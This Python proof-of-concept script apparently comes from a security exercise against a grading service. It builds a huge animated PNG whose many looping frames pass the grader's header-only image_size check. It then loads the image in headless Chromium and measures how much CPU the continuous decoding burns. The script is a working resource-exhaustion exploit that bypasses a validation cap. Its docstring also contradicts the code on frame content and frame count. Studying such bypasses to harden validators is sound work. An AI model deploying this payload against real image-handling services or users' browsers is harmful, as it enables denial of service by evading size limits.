"""a02: an animated PNG (acTL/fcTL/fdAT) of 4096 x 4096 and 2,000 frames, each frame a full-canvas of zeros
(zlib: a few kB), delay 1/100 s, looping forever. image_size reads IHDR only: 16.7 Mpx, under the cap, counted
once. The browser decodes every frame as it plays, for as long as the page is open. Measured: Chromium's CPU time
over 20 s with the page open, against a single-frame PNG of the same size."""
import base64, struct, sys, time, zlib, subprocess, os
sys.path.insert(0, (__import__("os").environ.get("ATTACK_ROOT_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", "..")))); sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from grader.feedback import image_size
from pngbomb import chunk
from playwright.sync_api import sync_playwright

def apng(w, h, frames):
    ihdr = chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 0, 0, 0, 0))  # 8-bit gray
    co = zlib.compressobj(9); rows = []
    for y in range(h):
        rows.append(co.compress(b"\x00" + bytes([y % 256]) * w))
    rows.append(co.flush()); data = b"".join(rows)
    co = zlib.compressobj(9); rows = []
    for y in range(h):
        rows.append(co.compress(b"\x00" + bytes([255 - y % 256]) * w))
    rows.append(co.flush()); data2 = b"".join(rows)
    out = [b"\x89PNG\r\n\x1a\n", ihdr, chunk(b"acTL", struct.pack(">II", frames, 0))]
    seq = 0
    for f in range(frames):
        out.append(chunk(b"fcTL", struct.pack(">IIIIIHHBB", seq, w, h, 0, 0, 1, 100, 0, 0))); seq += 1
        d = data if f % 2 == 0 else data2
        if f == 0:
            out.append(chunk(b"IDAT", d))
        else:
            out.append(chunk(b"fdAT", struct.pack(">I", seq) + d)); seq += 1
    out.append(chunk(b"IEND", b""))
    return b"".join(out)

def chromium_cpu():
    r = subprocess.run("ps -C chromium,chrome,headless_shell -o times= | awk '{s+=$1} END {print s}'", shell=True, capture_output=True, text=True)
    return float(r.stdout.strip() or 0)

ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-dev-shm-usage"]
if __name__ == "__main__":
  for frames in [int(a) for a in sys.argv[1:]] or (1, 200):
      raw = apng(4096, 4096, frames)
      t = base64.b64encode(raw).decode()
      print("frames", frames, "bytes", len(raw), "check:", image_size("image/png", t), flush=True)
      open("/tmp/attack42-root-img/a.html", "w").write(f'<img src="data:image/png;base64,{t}" width=800>')
      with sync_playwright() as p:
          b = p.chromium.launch(executable_path="/usr/bin/chromium", args=ARGS)
          pg = b.new_page(); pg.goto("file:///tmp/attack42-root-img/a.html")
          pg.evaluate("async () => { await document.images[0].decode() }")
          c0 = chromium_cpu(); t0 = time.time()
          for _ in range(20):
              pg.screenshot(path="/tmp/attack42-root-img/a.png"); time.sleep(1)
          c1 = chromium_cpu(); el = time.time() - t0
          b.close()
      print(f"  frames={frames}: chromium CPU {c1 - c0:.1f} s over {el:.1f} s wall with the page open", flush=True)
